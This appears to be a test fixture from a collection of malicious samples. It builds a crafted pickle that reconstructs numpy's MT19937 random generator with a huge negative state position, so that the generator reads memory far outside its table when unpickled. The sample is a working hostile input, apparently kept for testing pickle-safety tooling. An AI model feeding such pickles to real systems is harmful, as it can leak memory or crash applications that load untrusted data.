"""A Mersenne Twister reads its next number from far outside of its table."""

from __future__ import annotations

from malicious_samples.recipes import make_array, make_call
from tests.builder import Name, Pickle


def build(canary: str) -> bytes:
    del canary
    bits = make_call(
        Name("numpy.random._pickle", "__bit_generator_ctor"),
        Name("numpy.random._mt19937", "MT19937"),
    )
    table = make_array(*range(624), dtype="<u4")
    state = {
        "bit_generator": "MT19937",
        "state": {"key": table, "pos": -(1 << 30)},
        "has_gauss": 0,
        "gauss": 0.0,
    }
    constructor = Name("numpy.random._pickle", "__randomstate_ctor")
    return Pickle(framed=True).call(constructor, bits).save(state).build().finish()
